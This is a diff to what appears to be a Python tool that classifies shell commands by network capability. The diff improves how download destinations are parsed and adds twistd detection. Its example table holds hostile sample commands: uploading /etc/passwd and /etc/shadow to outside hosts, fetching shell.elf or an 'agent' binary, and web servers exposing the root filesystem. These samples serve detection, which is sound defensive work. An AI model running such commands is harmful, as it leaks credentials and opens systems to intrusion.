@@ -564,7 +564,8 @@ def _copy(c: Cmd) -> list[Cap]:
             if re.search(r"(?im)^\s*(?:put|mput|reput)\b", text):
                 out.append(Cap("upload", c.name, "sftp puts files", ep, path="batch"))
             if re.search(r"(?im)^\s*(?:get|mget|reget)\b", text):
-                out.append(Cap("download", c.name, "sftp gets files", ep, path="."))
+                dest = _get_dest(text)
+                out.append(Cap("download", c.name, f"sftp gets {dest}", ep, path=dest))
         return out
     dst, srcs = pos[-1], pos[:-1]
     eps = endpoints_of_args("scp", [dst, *srcs])
@@ -581,6 +582,22 @@ def _copy(c: Cmd) -> list[Cap]:
         ep = Endpoint(host, "", "user@host", "", src[:80])
         out.append(Cap("download", c.name, f"{c.name} copies {src[:60]} here", ep, path=dst))
     return out
+
+
+_GET = re.compile(r"(?i)(?:^|[\s;'\"])(?:get|mget|reget|recv)\s+(\S+)(?:[ \t]+([^\s;'\"]+))?")
+
+
+def _get_dest(text: str) -> str:
+    """The local file of an ftp/sftp/smb ``get REMOTE [LOCAL]`` command."""
+    m = _GET.search(text)
+    if not m:
+        return "file"
+    local = m.group(2)
+    return (
+        local
+        if local and local.lower() not in ("quit", "bye", "exit")
+        else m.group(1).rsplit("/", 1)[-1]
+    )
 
 
 def _ftp(c: Cmd) -> list[Cap]:
@@ -605,8 +622,9 @@ def _ftp(c: Cmd) -> list[Cap]:
         or re.search(r"(?i)(?:^|[\s;'\"])(?:get|mget|reget|recv)\s", text)
         or (c.name in ("tftp", "atftp") and ("-g" in fl or "--get" in args))
     ):
-        local = _opt(args, ("-l", "--local-file")) or _opt(args, ("-r", "--remote-file")) or "file"
-        out.append(Cap("download", c.name, f"{c.name} gets {local}", ep, path=local))
+        dest = _opt(args, ("-l", "--local-file")) or _opt(args, ("-r", "--remote-file"))
+        dest = dest or _get_dest(text)
+        out.append(Cap("download", c.name, f"{c.name} gets {dest}", ep, path=dest))
     return out
 
 
@@ -622,7 +640,8 @@ def _smb(c: Cmd) -> list[Cap]:
     if re.search(r"(?i)\b(?:put|mput)\b", cmds):
         out.append(Cap("upload", c.name, "smbclient puts files", ep, path="file"))
     if re.search(r"(?i)\b(?:get|mget)\b", cmds):
-        out.append(Cap("download", c.name, "smbclient gets files", ep, path="file"))
+        dest = _get_dest(cmds)
+        out.append(Cap("download", c.name, f"smbclient gets {dest}", ep, path=dest))
     return out
 
 
@@ -898,6 +917,15 @@ def _httpd(c: Cmd) -> list[Cap]:
     name = c.name
     if name == "caddy" and (not args or args[0] != "file-server"):
         return []
+    if name == "twistd":
+        if "web" not in args:
+            return []
+        port = _opt(args, ("--port", "--listen", "-p"), cluster=False) or "tcp:8080"
+        m = re.search(r"interface=([^:]+)", port)
+        web_root = _opt(args, ("--path",), cluster=False) or "."
+        iface = m.group(1) if m else None
+        return [Cap("serve", name, f"twistd web serves {web_root}", None, True, iface, path=web_root),
+                Cap("listen", name, "twistd web listens", None, True, iface)]  # fmt: skip
     spec = (
         _opt(
             args,
@@ -1272,6 +1300,7 @@ _ENTRIES: tuple[NetTool, ...] = (
     )),
     NetTool(("ftp", "lftp", "ncftp", "ncftpput", "ncftpget", "tftp", "atftp", "pftp"), _ftp, (
         ("tftp -p -l /etc/passwd 10.0.0.1", "upload"), ("tftp -g -r shell.elf 10.0.0.1", "download"),
+        ("ftp -n 10.0.0.1 <<< $'user a b\\nget agent /tmp/agent\\nquit'", "download"),
         ("lftp -c 'open h.example; put /etc/shadow'", "upload"), ("ftp -h", "-"),
     )),
     NetTool(("smbclient", "smbget"), _smb, (
@@ -1313,7 +1342,8 @@ _ENTRIES: tuple[NetTool, ...] = (
     NetTool(("php",), _php, (("php -S 0.0.0.0:80", "serve"), ("php -S localhost:8000 -t public", "serve"), ("php -v", "-"))),
     NetTool(("ruby",), _ruby, (("ruby -run -e httpd . -p 8080", "serve"), ("ruby -e 'puts 1'", "-"))),
     NetTool(("httpd", "darkhttpd", "webfsd", "mini_httpd", "updog", "http-server", "serve", "live-server",
-             "caddy", "lighttpd"), _httpd, (
+             "caddy", "lighttpd", "twistd"), _httpd, (
+        ("twistd -n web --path / --port tcp:8080", "serve"),
         ("busybox httpd -f -p 8080 -h /", "serve"), ("updog -d / -p 80", "serve"),
         ("http-server -p 8080 /etc", "serve"), ("caddy file-server --listen :80 --root /", "serve"),
         ("caddy version", "-"),
